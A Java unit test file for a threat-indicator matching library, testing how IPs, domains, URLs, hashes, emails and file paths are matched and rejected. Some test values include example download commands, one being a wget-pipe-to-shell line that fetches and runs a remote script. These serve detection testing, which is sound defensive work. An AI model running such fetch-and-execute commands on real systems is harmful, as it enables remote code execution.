package dev.vedette.detect.indicators;

import static dev.vedette.detect.indicators.IndicatorKind.ADDRESS;
import static dev.vedette.detect.indicators.IndicatorKind.DOMAIN;
import static dev.vedette.detect.indicators.IndicatorKind.EMAIL;
import static dev.vedette.detect.indicators.IndicatorKind.FILE;
import static dev.vedette.detect.indicators.IndicatorKind.HASH;
import static dev.vedette.detect.indicators.IndicatorKind.IMPHASH;
import static dev.vedette.detect.indicators.IndicatorKind.RANGE;
import static dev.vedette.detect.indicators.IndicatorKind.URL;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Which values meet which indicators, however either side writes them. */
class MatchingTest {
  private static final String MD5 = "0123456789abcdef0123456789abcdef";
  private static final String SHA256 = MD5 + "fedcba9876543210fedcba9876543210";

  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          ADDRESS, 192.0.2.7,               ADDRESS, 192.0.2.7
          ADDRESS, 192.0.2.7,               ADDRESS, ::ffff:192.0.2.7
          ADDRESS, 192.0.2.7:8080,          ADDRESS, 192.0.2.7
          ADDRESS, 2001:DB8::1,             ADDRESS, 2001:db8:0:0:0:0:0:1
          ADDRESS, [2001:db8::1]:443,       ADDRESS, 2001:db8::1
          ADDRESS, 192.0.2.7,               HOST,    192.0.2.7
          ADDRESS, 192.0.2.7,               URL,     http://192.0.2.7/x
          ADDRESS, 2001:db8::1,             URL,     https://[2001:db8::1]:8443/x
          ADDRESS, 192.0.2.7,               HOSTS,   '::ffff:192.0.2.7;type:  5 edge.example;'
          ADDRESS, 192.0.2.7,               TEXT,    'curl -o x http://192.0.2.7:8000/a'
          RANGE,   192.0.2.0/24,            ADDRESS, 192.0.2.255
          RANGE,   192.0.2.9/24,            ADDRESS, 192.0.2.0
          RANGE,   2001:db8::/32,           ADDRESS, 2001:db8:ffff::1
          RANGE,   192.0.2.7/32,            ADDRESS, 192.0.2.7
          DOMAIN,  evil.example,            HOST,    evil.example
          DOMAIN,  Evil.Example.,           HOST,    EVIL.example.
          DOMAIN,  evil.example,            HOST,    a.b.evil.example
          DOMAIN,  *.evil.example,          HOST,    www.evil.example
          DOMAIN,  bücher.example,          HOST,    xn--bcher-kva.example
          DOMAIN,  xn--bcher-kva.example,   HOST,    www.BÜCHER.example
          DOMAIN,  evil.example,            URL,     HTTPS://user:pass@www.evil.example:8443/a?b#c
          DOMAIN,  evil.example,            EMAIL,   '"Bank" <info@mail.evil.example>'
          URL,     http://evil.example,     URL,     https://evil.example/
          URL,     evil.example/a,          URL,     http://EVIL.example:80/a#top
          URL,     https://evil.example:443/a, URL,  evil.example/a
          URL,     http://evil.example/%7euser, URL, http://evil.example/~user
          URL,     http://evil.example/a%2fb,   URL, http://evil.example/a%2Fb
          URL,     http://192.0.2.7/x.sh,   TEXT,    'sh -c "wget http://192.0.2.7/x.sh|sh"'
          HASH,    0123456789ABCDEF0123456789abcdef, HASHES, 'MD5=0123456789abcdef0123456789ABCDEF,SHA1=0'
          IMPHASH, 0123456789abcdef0123456789abcdef, HASHES, 'MD5=ffff,IMPHASH=0123456789ABCDEF0123456789ABCDEF'
          EMAIL,   Info@Evil.example,       EMAIL,   'Bank <info@EVIL.example>'
          EMAIL,   mailto:info@evil.example, EMAIL,  'a@ok.example, info@evil.example'
          FILE,    Evil.EXE,                FILE,    'C:\\Temp\\evil.exe'
          FILE,    'C:\\Temp\\evil.exe',    FILE,    'c:/temp/EVIL.exe'
          """)
  void meets(IndicatorKind kind, String indicator, Watch watch, String value) {
    var looking = new Looking().with(kind, indicator);

    assertThat(looking.at(watch, value)).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          ADDRESS, 192.0.2.7,               ADDRESS, 192.0.2.70
          ADDRESS, 192.0.2.7,               HOST,    192.0.2.7.example
          RANGE,   192.0.2.0/25,            ADDRESS, 192.0.2.128
          DOMAIN,  evil.example,            HOST,    notevil.example
          DOMAIN,  evil.example,            HOST,    evil.example.org
          DOMAIN,  www.evil.example,        HOST,    evil.example
          DOMAIN,  evil.example,            URL,     http://ok.example/evil.example
          DOMAIN,  evil.example,            URL,     http://evil.example@ok.example/
          URL,     http://evil.example/a,   URL,     http://evil.example/A
          URL,     http://evil.example/a,   URL,     http://evil.example/a/b
          URL,     http://evil.example/a,   URL,     http://evil.example:8080/a
          HASH,    0123456789abcdef0123456789abcdef, HASHES, 'IMPHASH=0123456789abcdef0123456789abcdef'
          IMPHASH, 0123456789abcdef0123456789abcdef, HASHES, 'MD5=0123456789abcdef0123456789abcdef'
          HASH,    0123456789abcdef0123456789abcdef, HASHES, 0123456789abcdef0123456789abcdef0
          EMAIL,   info@evil.example,       EMAIL,   other@evil.example
          FILE,    'C:\\Temp\\evil.exe',    FILE,    'C:\\Other\\evil.exe'
          FILE,    evil.exe,                FILE,    'C:\\evil.exe\\ok.txt'
          """)
  void doesNotMeet(IndicatorKind kind, String indicator, Watch watch, String value) {
    var looking = new Looking().with(kind, indicator);

    assertThat(looking.at(watch, value)).isEmpty();
  }

  @Test
  void tellsAnIndicatorByItsOwnNameWhateverMetIt() {
    var looking =
        new Looking()
            .with(DOMAIN, "evil.example")
            .with(ADDRESS, "192.0.2.7")
            .with(RANGE, "192.0.2.0/24")
            .with(HASH, SHA256)
            .with(FILE, "evil.exe")
            .with(EMAIL, "x@evil.example")
            .with(URL, "http://a.evil.example/p");

    assertThat(looking.at(Watch.URL, "https://A.evil.example:443/p"))
        .containsExactly("url a.evil.example/p", "domain evil.example");
    assertThat(looking.at(Watch.ADDRESS, "192.0.2.7"))
        .containsExactly("address 192.0.2.7", "range 192.0.2.0/24");
    assertThat(looking.at(Watch.EMAIL, "X@Evil.example"))
        .containsExactly("email x@evil.example", "domain evil.example");
    assertThat(looking.at(Watch.HASHES, "SHA256=" + SHA256)).containsExactly("hash " + SHA256);
    assertThat(looking.at(Watch.FILE, "D:\\x\\EVIL.exe")).containsExactly("file evil.exe");
  }

  @Test
  void anImportHashIsNoHashOfAFile() {
    var looking = new Looking().with(IMPHASH, MD5).with(HASH, MD5);

    assertThat(looking.at(Watch.HASHES, "IMPHASH=" + MD5)).containsExactly("imphash " + MD5);
    assertThat(looking.at(Watch.HASHES, "MD5=" + MD5)).containsExactly("hash " + MD5);
  }

  @Test
  void expiresInEventTime() {
    long expiry = Instant.parse("2024-03-01T00:00:00Z").getEpochSecond();
    var looking = new Looking().with(HASH, MD5, new Validity(0, expiry));

    assertThat(looking.at(Watch.HASHES, MD5, expiry * 1000 - 1)).hasSize(1);
    assertThat(looking.at(Watch.HASHES, MD5, expiry * 1000)).isEmpty();
  }

  @Test
  void whatChangesHandsIsMetOnlyAWhileBeforeItsPublication() {
    long published = Instant.parse("2024-03-01T00:00:00Z").getEpochSecond();
    long longBefore = (published - Validity.LOOK_BACK - 1) * 1000;
    var validity = new Validity(published, Validity.FOREVER);
    var looking = new Looking().with(ADDRESS, "192.0.2.7", validity).with(HASH, MD5, validity);

    assertThat(looking.at(Watch.ADDRESS, "192.0.2.7", longBefore + 2_000)).hasSize(1);
    assertThat(looking.at(Watch.ADDRESS, "192.0.2.7", longBefore)).isEmpty();
    assertThat(looking.at(Watch.HASHES, MD5, longBefore)).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          ADDRESS, 127.0.0.1,                        SAYS_NOTHING
          ADDRESS, ::1,                              SAYS_NOTHING
          ADDRESS, 0.0.0.0,                          SAYS_NOTHING
          ADDRESS, 255.255.255.255,                  SAYS_NOTHING
          HASH,    d41d8cd98f00b204e9800998ecf8427e, SAYS_NOTHING
          RANGE,   8.0.0.0/7,                        TOO_BROAD
          RANGE,   ::/0,                             TOO_BROAD
          RANGE,   2000::/3,                         TOO_BROAD
          RANGE,   192.0.2.0/33,                     NO_VALUE
          RANGE,   192.0.2.0,                        NO_VALUE
          ADDRESS, 192.0.2.256,                      NO_VALUE
          DOMAIN,  com,                              NO_VALUE
          DOMAIN,  'evil example.com',               NO_VALUE
          DOMAIN,  a..example,                       NO_VALUE
          DOMAIN,  192.0.2.1,                        NO_VALUE
          HASH,    0123,                             NO_VALUE
          EMAIL,   nobody,                           NO_VALUE
          URL,     /only/a/path,                     NO_VALUE
          """)
  void refusesWhatNoStoreShouldHold(IndicatorKind kind, String value, Intake expected) {
    var builder = new IndicatorStoreBuilder(17);

    assertThat(builder.add(kind, value, Looking.NOTE, Validity.ALWAYS)).isEqualTo(expected);
    assertThat(builder.build().size()).isZero();
  }

  @Test
  void anotherStoreTakesItsPlaceBetweenTwoEvents() {
    var first = new Looking().with(ADDRESS, "192.0.2.7");
    var live = first.live(Watch.ADDRESS);
    var second = new IndicatorStoreBuilder(3);
    second.add(ADDRESS, "192.0.2.8", Looking.NOTE, Validity.ALWAYS);

    live.replace(second.build());

    assertThat(live.current().store().size(ADDRESS)).isEqualTo(1);
    assertThat(live.current().store().seed()).isEqualTo(3);
  }
}
